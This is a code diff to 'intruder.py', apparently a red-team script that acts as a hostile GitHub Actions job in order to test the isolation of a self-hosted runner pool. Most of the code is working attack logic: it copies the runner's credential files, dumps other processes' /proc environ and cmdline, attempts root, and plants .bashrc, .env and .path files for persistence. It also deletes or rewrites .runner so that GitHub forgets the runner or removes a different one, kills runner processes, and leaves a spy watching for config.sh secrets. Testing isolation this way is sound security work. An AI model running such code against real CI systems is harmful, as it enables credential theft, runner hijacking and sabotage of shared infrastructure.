@@ -1,8 +1,9 @@
 """What a hostile job does. Standard library only: it is copied beside the pool and executed as a step of a real job.
 
-    intruder.py break-in       take, change, speak and leave whatever can be: what came of it goes to the loot
-    intruder.py look           as a job of the next run: what is there that an earlier run left?
-    intruder.py leave-a-spy    leave a process that watches every environment for what config.sh is given
+    intruder.py break_in    take, change, speak and leave whatever can be: what came of it goes to the loot
+    intruder.py feign       pretend that GitHub has forgotten the runner, and keep what it was known by
+    intruder.py tamper      have another runner removed instead, and watch for what config.sh is given meanwhile
+    intruder.py look        as a job of the next run: what is there that an earlier run left?
 
 What it should try, and where the loot is, lies in `plan.json` beside it.
 """
@@ -71,11 +72,15 @@ def harvest() -> None:
             for name in ("cmdline", "environ"):
                 bag.write((taken(f"/proc/{pid}/{name}") or b"") + b"\n")
     report("opened", opened)
-    keep = LOOT / "credentials"
-    keep.mkdir()
+    copy_credentials("credentials")
+
+
+def copy_credentials(name: str) -> None:
+    """What the runner itself shows GitHub. It runs as our user, so this is ours to take."""
+    (LOOT / name).mkdir()
     for file in runner_directory().glob(".*"):
         with suppress(OSError):
-            shutil.copyfile(file, keep / file.name)
+            shutil.copyfile(file, LOOT / name / file.name)
 
 
 # ------------------------------------------------------------------------------------------------- what can be changed
@@ -109,13 +114,11 @@ def overpower() -> None:
             found.append(f"kill {pid}")
         for name in ("mem", "environ", "cwd", "fd"):
             with suppress(OSError):
-                target = f"/proc/{pid}/{name}"
-                os.listdir(target) if name in ("fd", "cwd") else open(target, "rb").read(1)
+                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
                 found.append(f"{name} of {pid}")
-    for deed in (lambda: os.setuid(0), lambda: os.setgroups([0])):
-        with suppress(OSError):
-            deed()
-            found.append("became root")
+    with suppress(OSError):
+        os.setuid(0)
+        found.append("became root")
     report("overpowered", found)
 
 
@@ -188,7 +191,7 @@ def hide() -> None:
 
 def leave() -> None:
     runner = runner_directory()
-    for place in (os.environ["HOME"], os.environ["TMPDIR"], os.environ["RUNNER_TEMP"], ".", os.environ["RUNNER_TOOL_CACHE"]):
+    for place in (".", *(os.environ[name] for name in ("HOME", "TMPDIR", "RUNNER_TEMP", "RUNNER_TOOL_CACHE"))):
         (Path(place) / LEFT).write_text("found", encoding="utf-8")
         deep = Path(place) / f"{LEFT}-closed"
         deep.mkdir()
@@ -197,9 +200,10 @@ def leave() -> None:
     (Path(os.environ["HOME"]) / ".bashrc").write_text("exit 1\n", encoding="utf-8")
     (Path(os.environ["HOME"]) / ".bash_env").write_text("exit 0\n", encoding="utf-8")
     # What GitHub's runner reads when it starts: no hook any more, and another bash to run it.
-    (runner / ".env").write_text(f"{HOOK}=\nBASH_ENV={os.environ['HOME']}/.bash_env\n", encoding="utf-8")
-    (runner / ".path").write_text(f"{os.environ['HOME']}/bin:/usr/bin:/bin\n", encoding="utf-8")
-    (runner / LEFT).write_text("found", encoding="utf-8")
+    planted = {".env": f"{HOOK}=\nBASH_ENV={os.environ['HOME']}/.bash_env\n", ".path": "/tmp\n", LEFT: "found"}
+    for name, content in planted.items():
+        with suppress(OSError):
+            (runner / name).write_text(content, encoding="utf-8")
     if os.fork() == 0:
         os.setsid()
         (LOOT / f"pid-plain-{os.getpid()}").touch()
@@ -217,10 +221,40 @@ def lurk() -> None:
                     bag.write(found + b"\n")
 
 
+def feign() -> None:
+    """Make it look as if GitHub had forgotten our runner: then nobody will have it removed, and we have its keys."""
+    copy_credentials("feigned")
+    (runner_directory() / ".runner").unlink()
+    (LOOT / "runner").write_text(str(runner_directory()), encoding="utf-8")
+    vanish("strike")
+
+
+def strike() -> None:
+    """Once our job is over, for under a job it would be noticed: end the runner."""
+    while not (LOOT / "strike").exists():
+        time.sleep(0.01)
+    directory = (LOOT / "runner").read_bytes()
+    for pid in filter(str.isdecimal, os.listdir("/proc")):
+        with suppress(OSError):
+            if (
+                directory + b"/run" in Path(f"/proc/{pid}/cmdline").read_bytes()
+                or os.readlink(f"/proc/{pid}/cwd").encode() == directory
+            ):
+                os.kill(int(pid), signal.SIGKILL)
+
+
+def tamper() -> None:
+    """Have somebody else removed in our place, and leave a spy on whoever does it."""
+    copy_credentials("tampered")
+    path = runner_directory() / ".runner"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"agentName": PLAN["victim"]}), encoding="utf-8")
+    vanish("lurk")
+
+
 def look() -> None:
     """As the next run: whatever of the last one there is to be met."""
     seen = []
-    for place in (os.environ["HOME"], os.environ["TMPDIR"], str(runner_directory()), os.environ["RUNNER_TEMP"], "../.."):
+    for place in (str(runner_directory()), "../..", *(os.environ[name] for name in ("HOME", "TMPDIR", "RUNNER_TEMP"))):
         for above, directories, files in os.walk(place):
             seen += [os.path.join(above, name) for name in (*directories, *files)]
     report("seen", [path for path in seen if not path.startswith(str(runner_directory() / "bin"))])
@@ -236,5 +270,5 @@ def break_in() -> None:
 
 
 if __name__ == "__main__":
-    deeds = {"break-in": break_in, "look": look, "hide": hide, "lurk": lurk, "leave-a-spy": lambda: vanish("lurk")}
-    deeds[sys.argv[1]]()
+    deeds = (break_in, look, feign, strike, tamper, hide, lurk)
+    {deed.__name__: deed for deed in deeds}[sys.argv[1]]()
